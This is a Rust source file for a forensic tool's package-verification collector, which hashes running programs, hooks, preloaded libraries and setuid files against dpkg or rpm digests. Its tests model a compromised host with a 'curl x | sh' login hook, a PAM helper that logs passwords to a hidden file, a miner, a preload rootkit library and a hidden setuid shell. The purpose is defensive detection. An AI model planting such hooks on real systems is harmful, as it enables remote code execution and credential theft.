//! The `packages` collector: the package database as records, and verification of files
//! against it.
//!
//! The database itself ([`crate::shared::pkgdb`]) is shared with the collectors that consult
//! it: installed packages, file ownership and diversions of dpkg (`/var/lib/dpkg/status`,
//! copied verbatim, `info/*.list`, `diversions`) or rpm (live hosts with exec allowed). Files
//! are verified against `info/*.md5sums`, the conffile digests in `status`, or rpm's digests.
//!
//! Verification is targeted by default: every executable referenced by a running process, a
//! unit's `Exec*=` lines or a cron entry, every system-wide hook file (from the `hooks`
//! collector: boot and login hooks, apt/yum/dnf hooks, PAM service files and the PAM modules
//! they load, polkit rules, and the programs those hooks run: autostart `Exec=`, udev `RUN`,
//! apt hook commands, `pam_exec`), every library named by absolute path in `/etc/ld.so.preload`
//! (from the `kernel` collector) or in a unit's `LD_PRELOAD`, and every setuid, setgid or
//! capability-carrying file (from the `privileged` collector), is hashed and compared with the
//! package database (`referenced` gathers them, `verify` checks one).
//! `verify = "full"` checks every file of every package as well as everything referenced;
//! `verify = "none"` skips it.

mod referenced;
mod verify;

use crate::shared::pkgdb::{Md5Cache, PackageDb};
use crate::util::{ByteSize, VERSION, validate};
use dossier_plugin_api::collect::{CollectError, IssueKind};
use dossier_plugin_api::records::Record;
use dossier_plugin_api::{CollectContext, Collector, CollectorInfo};
use serde::Deserialize;
use std::sync::Arc;

/// The `packages` collector.
pub struct PackagesCollector;

/// How much to verify.
#[derive(Deserialize, Clone, Copy, Debug, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum VerifyMode {
    None,
    Referenced,
    Full,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    #[serde(default = "default_verify")]
    verify: VerifyMode,
    /// Files larger than this are not hashed for verification.
    #[serde(default = "default_verify_cap")]
    max_verify_size: ByteSize,
    /// Also copy every dpkg `info/*.list` verbatim into the bundle.
    #[serde(default)]
    copy_lists: bool,
    /// Copy referenced files that no package owns, or whose digest differs from the package
    /// database, into the bundle (for offline analysis of their content).
    #[serde(default = "yes")]
    copy_suspect: bool,
    /// Suspect files larger than this are hashed but not copied.
    #[serde(default = "default_copy_cap")]
    max_copy_size: ByteSize,
}

fn yes() -> bool {
    true
}
fn default_copy_cap() -> ByteSize {
    ByteSize(64 << 20)
}

fn default_verify() -> VerifyMode {
    VerifyMode::Referenced
}
fn default_verify_cap() -> ByteSize {
    ByteSize(1 << 30)
}

impl Collector for PackagesCollector {
    fn info(&self) -> CollectorInfo {
        CollectorInfo {
            name: "packages".into(),
            version: VERSION.into(),
            description: "Installed packages (dpkg, rpm), file ownership, diversions, and verification of referenced executables against package digests".into(),
            after: vec![
                "proc".into(),
                "systemd".into(),
                "cron".into(),
                "hooks".into(),
                "kernel".into(),
                "privileged".into(),
            ],
        }
    }

    fn validate_config(&self, config: &serde_json::Value) -> Result<(), String> {
        validate::<Config>(config)
    }

    fn collect(&self, ctx: &mut CollectContext<'_>) -> Result<(), CollectError> {
        let cfg: Config = ctx.config()?;
        let db = match ctx.cached::<PackageDb>() {
            Some(db) if !cfg.copy_lists => db,
            _ => {
                let db = Arc::new(PackageDb::load_fresh(ctx, cfg.copy_lists));
                ctx.set_cached(db.clone());
                db
            }
        };
        if let Some(why) = &db.unavailable {
            ctx.not_available("package database", why);
        }
        for p in &db.packages {
            ctx.emit(&Record::Package(p.clone()))?;
        }
        // Each list straight from the compact lists as its JSON line (a package may list
        // 50,000 paths: no `Vec<String>` or `Value` of them).
        let mut line = Vec::new();
        for i in 0..db.files.len() {
            if db.files.record_line(i, &mut line).is_some() {
                ctx.emit_line(&line)?;
            }
        }
        drop(line);
        for d in &db.diversions {
            ctx.emit(&Record::Diversion(d.clone()))?;
        }
        if db.manager.is_none() || cfg.verify == VerifyMode::None {
            return Ok(());
        }
        // Full verification is a superset of the referenced one: every file of every package,
        // plus what processes, units and cron entries run (owned or not).
        let mut targets = referenced::executables(ctx);
        if cfg.verify == VerifyMode::Full {
            db.files.for_each_path(|p| {
                if !targets.contains_key(p) {
                    targets.insert(p.to_string(), vec!["full".to_string()]);
                }
            });
        }
        let mut md5_cache = Md5Cache::new();
        for (path, refs) in targets {
            // Only a package-list entry nothing runs may be a directory or link to skip.
            let full = refs.len() == 1 && refs[0] == "full";
            if ctx.host_lost().is_some() {
                ctx.issue(
                    "package verification",
                    IssueKind::Incomplete,
                    "host lost; verification stopped",
                );
                break;
            }
            let caps = verify::Caps {
                verify: cfg.max_verify_size.0,
                copy_unowned: cfg.copy_suspect.then_some(cfg.max_copy_size.0),
                full,
            };
            if let Some(mut v) = verify::file(ctx, &db, &path, refs, &caps, &mut md5_cache) {
                // A file no package owns was copied as it was hashed.
                if cfg.copy_suspect && v.status == "mismatch" {
                    v.copy = verify::copy_suspect(ctx, &v, cfg.max_copy_size.0);
                }
                ctx.emit(&Record::PackageVerify(v))?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dossier_plugin_api::PriorRecords;
    use dossier_plugin_api::encoding::hex;
    use dossier_plugin_api::testing::{MemHost, run_collector};
    use md5::Md5;
    use sha2::{Digest, Sha256};
    use std::collections::BTreeMap;

    fn md5hex(d: &[u8]) -> String {
        hex(&Md5::digest(d))
    }

    fn host() -> MemHost {
        let cron_bin = b"\x7fELF cron binary";
        let status = format!(
            "Package: cron\nStatus: install ok installed\nVersion: 3.0pl1-162\nArchitecture: amd64\nConffiles:\n /etc/init.d/cron {}\n\nPackage: coreutils\nStatus: install ok installed\nVersion: 9.1-1\nArchitecture: amd64\nDescription: GNU core utilities\n multi-line\n description\n\n",
            md5hex(b"#!/bin/sh\n")
        );
        MemHost::new(true)
            .link("/bin", "usr/bin")
            .file("/var/lib/dpkg/status", status)
            .file(
                "/var/lib/dpkg/info/cron.list",
                "/.\n/usr\n/usr/sbin\n/usr/sbin/cron\n/etc/init.d/cron\n",
            )
            .file(
                "/var/lib/dpkg/info/cron.md5sums",
                format!("{}  usr/sbin/cron\n", md5hex(cron_bin)),
            )
            .file(
                "/var/lib/dpkg/info/coreutils:amd64.list",
                "/bin/ls\n/usr/bin/sleep\n",
            )
            .file(
                "/var/lib/dpkg/info/coreutils:amd64.md5sums",
                format!(
                    "{}  bin/ls\n{}  usr/bin/sleep\n",
                    md5hex(b"ls"),
                    md5hex(b"sleep")
                ),
            )
            .file(
                "/var/lib/dpkg/diversions",
                "/usr/bin/ls\n/usr/bin/ls.distrib\nevil\n",
            )
            .exe("/usr/sbin/cron", cron_bin)
            .exe("/usr/bin/ls", "ls")
            .exe("/usr/bin/sleep", "trojaned sleep")
            .file("/etc/init.d/cron", "#!/bin/sh\n")
            .exe("/var/log/log", "miner")
            .file("/etc/profile.d/zz-update.sh", "curl x | sh\n")
            .file("/usr/lib/libhide.so", "\x7fELF hide readdir")
            .exe(
                "/usr/lib/openssh/auth-helper",
                "#!/bin/sh\ncat >> /var/backups/.pw\n",
            )
    }

    fn prior() -> PriorRecords {
        let mut p = PriorRecords::new();
        p.insert("proc".into(), vec![
            serde_json::json!({"kind":"process","pid":812,"ppid":1,"state":"S","comm":"log","argv":[],"uid":0,"euid":0,"gid":0,"egid":0,"kernel_thread":false,"start_ticks":1,"threads":1,"exe":"/var/log/log"}),
            serde_json::json!({"kind":"process","pid":500,"ppid":1,"state":"S","comm":"cron","argv":[],"uid":0,"euid":0,"gid":0,"egid":0,"kernel_thread":false,"start_ticks":1,"threads":1,"exe":"/usr/sbin/cron"}),
            serde_json::json!({"kind":"process","pid":501,"ppid":1,"state":"S","comm":"sleep","argv":[],"uid":0,"euid":0,"gid":0,"egid":0,"kernel_thread":false,"start_ticks":1,"threads":1,"exe":"/usr/bin/sleep"}),
        ]);
        p.insert("systemd".into(), vec![serde_json::json!({"kind":"unit","name":"x.service","unit_type":"service","scope":"system","path":"/etc/systemd/system/x.service","source":{"path":"/etc/systemd/system/x.service"},"unit_dir":"/etc/systemd/system","exec_start":["-/bin/ls -l"],"enabled":false})]);
        p.insert("cron".into(), vec![serde_json::json!({"kind":"cron_entry","source":{"path":"/etc/crontab"},"line":2,"format":"system","owner":"root","schedule":"@reboot","run_as":"root","command":"/etc/init.d/cron start"})]);
        p.insert("hooks".into(), vec![
            serde_json::json!({"kind":"hook","path":"/etc/profile.d/zz-update.sh","class":"profile.d","runs_at":"login","active":true}),
            serde_json::json!({"kind":"hook","path":"/etc/rc2.d/S01cron","class":"rc-link","runs_at":"boot","active":true,"link_target":"../init.d/cron"}),
            serde_json::json!({"kind":"hook","path":"/home/alice/.bashrc","class":"user-shell-rc","runs_at":"shell","active":true,"owner":"alice"}),
            serde_json::json!({"kind":"hook","path":"/etc/pam.d/sshd","class":"pam","runs_at":"auth","active":true,"commands":["/usr/lib/openssh/auth-helper --pw", "relative-name x"]}),
        ]);
        p.insert("kernel".into(), vec![
            serde_json::json!({"kind":"ld_preload","path":"/etc/ld.so.preload","entries":["/usr/lib/libhide.so","libbare.so","/lib/$LIB/x.so"],"source":{"path":"/etc/ld.so.preload"}}),
        ]);
        p
    }

    #[test]
    fn privileged_files_and_preloaded_libraries_are_verified_and_copied() {
        let h = host()
            .exe("/var/tmp/.x/bash", "bash")
            .mode("/var/tmp/.x/bash", 0o4755)
            .file("/dev/shm/.l.so", "\x7fELF preload");
        let mut prior = prior();
        prior.insert("privileged".into(), vec![
            serde_json::json!({"kind":"privileged_file","path":"/var/tmp/.x/bash","setuid":true,"setgid":false,"meta":{"kind":"file","mode":2541,"uid":0,"gid":0,"size":4}}),
            serde_json::json!({"kind":"privileged_file","path":"/usr/bin/sleep","setuid":false,"setgid":false,"capabilities":{"revision":2,"effective":true,"permitted":["cap_setuid"],"text":"cap_setuid=ep"},"meta":{"kind":"file","mode":493,"uid":0,"gid":0,"size":5}}),
        ]);
        prior.get_mut("systemd").unwrap().push(serde_json::json!({"kind":"unit","name":"y.service","unit_type":"service","scope":"system","path":"/etc/systemd/system/y.service","source":{"path":"/etc/systemd/system/y.service"},"unit_dir":"/etc/systemd/system","enabled":true,
            "properties":{"Service.Environment":["\"LD_PRELOAD=/dev/shm/.l.so\" A=1"]}}));
        let (sink, r) = run_collector(&PackagesCollector, &h, serde_json::Value::Null, &prior);
        r.unwrap();
        let v: BTreeMap<String, serde_json::Value> = sink
            .of_kind("packages", "package_verify")
            .into_iter()
            .map(|v| (v["path"].as_str().unwrap().to_string(), v))
            .collect();
        let bash = &v["/var/tmp/.x/bash"];
        assert_eq!(bash["status"], "not_owned");
        assert_eq!(bash["referenced_by"][0], "setuid file");
        assert!(bash["copy"]["member"].is_string(), "{bash}");
        let sleep = &v["/usr/bin/sleep"];
        assert_eq!(sleep["status"], "mismatch");
        assert!(
            sleep["referenced_by"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r == "file capabilities")
        );
        let lib = &v["/dev/shm/.l.so"];
        assert_eq!(lib["referenced_by"][0], "LD_PRELOAD of unit y.service");
        assert_eq!(lib["status"], "not_owned");
    }

    #[test]
    fn ownership_and_targeted_verification() {
        let (sink, r) = run_collector(
            &PackagesCollector,
            &host(),
            serde_json::Value::Null,
            &prior(),
        );
        r.unwrap();
        assert_eq!(sink.of_kind("packages", "package").len(), 2);
        assert_eq!(sink.of_kind("packages", "diversion")[0]["package"], "evil");
        let v: BTreeMap<String, serde_json::Value> = sink
            .of_kind("packages", "package_verify")
            .into_iter()
            .map(|v| (v["path"].as_str().unwrap().to_string(), v))
            .collect();
        assert_eq!(v["/usr/sbin/cron"]["status"], "ok");
        assert_eq!(v["/usr/sbin/cron"]["package"], "cron");
        assert_eq!(
            v["/usr/sbin/cron"]["digest_source"]["member"],
            "raw/var/lib/dpkg/info/cron.md5sums"
        );
        assert_eq!(v["/usr/bin/sleep"]["status"], "mismatch");
        assert_eq!(v["/var/log/log"]["status"], "not_owned");
        assert_eq!(v["/var/log/log"]["referenced_by"][0], "process 812");
        assert!(v["/var/log/log"]["sha256"].as_str().is_some());
        // /bin/ls is listed as /bin/ls by dpkg while /bin is a link to /usr/bin.
        assert_eq!(v["/bin/ls"]["status"], "ok", "{:?}", v["/bin/ls"]);
        assert_eq!(v["/etc/init.d/cron"]["status"], "ok");
        assert_eq!(v["/etc/init.d/cron"]["algorithm"], "md5");
        // System-wide hooks are verified; rc links through their script, home files never.
        assert_eq!(v["/etc/profile.d/zz-update.sh"]["status"], "not_owned");
        assert_eq!(
            v["/etc/profile.d/zz-update.sh"]["referenced_by"][0],
            "hook profile.d"
        );
        assert!(!v.contains_key("/etc/rc2.d/S01cron"));
        assert!(!v.contains_key("/home/alice/.bashrc"));
        // The programs hooks run are verified too (named by the hook).
        let helper = &v["/usr/lib/openssh/auth-helper"];
        assert_eq!(helper["status"], "not_owned");
        assert_eq!(helper["referenced_by"][0], "pam hook /etc/pam.d/sshd");
        assert!(helper["copy"]["member"].is_string(), "{helper}");
        // Preloaded libraries named by absolute path are hashed (and, unowned, copied).
        let lib = &v["/usr/lib/libhide.so"];
        assert_eq!(lib["status"], "not_owned");
        assert_eq!(lib["referenced_by"][0], "ld.so.preload");
        assert_eq!(
            lib["sha256"].as_str().unwrap(),
            hex(&Sha256::digest(b"\x7fELF hide readdir"))
        );
        assert!(!v.keys().any(|k| k.contains("libbare") || k.contains('$')));
    }

    #[test]
    fn full_verification_also_covers_what_is_referenced() {
        // Only the miner process is referenced.
        let mut prior = prior();
        prior.get_mut("proc").unwrap().truncate(1);
        prior.remove("systemd");
        prior.remove("cron");
        let (sink, r) = run_collector(
            &PackagesCollector,
            &host(),
            serde_json::json!({"verify": "full"}),
            &prior,
        );
        r.unwrap();
        let v: BTreeMap<String, serde_json::Value> = sink
            .of_kind("packages", "package_verify")
            .into_iter()
            .map(|v| (v["path"].as_str().unwrap().to_string(), v))
            .collect();
        // Every file of every package, directories of the lists left out...
        assert_eq!(v["/usr/sbin/cron"]["referenced_by"][0], "full");
        assert_eq!(v["/usr/sbin/cron"]["status"], "ok");
        assert_eq!(v["/usr/bin/sleep"]["status"], "mismatch");
        assert!(!v.contains_key("/usr/sbin"));
        // ...and the unowned program a process runs, copied as in targeted mode.
        assert_eq!(v["/var/log/log"]["status"], "not_owned");
        assert_eq!(v["/var/log/log"]["referenced_by"][0], "process 812");
        assert!(
            v["/var/log/log"]["copy"]["member"].is_string(),
            "{:?}",
            v["/var/log/log"]
        );
    }

    #[test]
    fn no_database_is_said_not_silent() {
        let h = MemHost::new(false).exe("/var/log/log", "x");
        let (sink, r) = run_collector(&PackagesCollector, &h, serde_json::Value::Null, &prior());
        r.unwrap();
        assert!(sink.of_kind("packages", "package_verify").is_empty());
        assert_eq!(sink.issues_about("package database").len(), 1);
    }

    #[test]
    fn rpm_on_a_live_host() {
        let h = MemHost::new(true)
            .dir("/var/lib/rpm")
            .exe("/usr/bin/rpm", "x")
            .exe("/usr/bin/sleep", "sleep")
            .command(
                &[
                    "/usr/bin/rpm",
                    "-qa",
                    "--qf",
                    "%{NAME}\\t%{EPOCHNUM}:%{VERSION}-%{RELEASE}\\t%{ARCH}\\t%{INSTALLTIME}\\n",
                ],
                "coreutils\t0:8.32-35.el9\tx86_64\t1700000000\n",
            )
            .command(
                &[
                    "/usr/bin/rpm",
                    "-qa",
                    "--qf",
                    "[%{=NAME}\\t%{=FILEDIGESTALGO}\\t%{FILEDIGESTS}\\t%{FILENAMES}\\n]",
                ],
                &format!(
                    "coreutils\t8\t{}\t/usr/bin/sleep\n",
                    hex(&Sha256::digest(b"sleep"))
                ),
            );
        let mut p = PriorRecords::new();
        p.insert("proc".into(), vec![serde_json::json!({"kind":"process","pid":501,"ppid":1,"state":"S","comm":"sleep","argv":[],"uid":0,"euid":0,"gid":0,"egid":0,"kernel_thread":false,"start_ticks":1,"threads":1,"exe":"/usr/bin/sleep"})]);
        let (sink, r) = run_collector(&PackagesCollector, &h, serde_json::Value::Null, &p);
        r.unwrap();
        let pkg = &sink.of_kind("packages", "package")[0];
        assert_eq!(pkg["version"], "8.32-35.el9");
        assert_eq!(pkg["install_time"], "2023-11-14T22:13:20Z");
        let v = &sink.of_kind("packages", "package_verify")[0];
        assert_eq!(v["status"], "ok");
        assert_eq!(v["algorithm"], "sha256");
    }
}
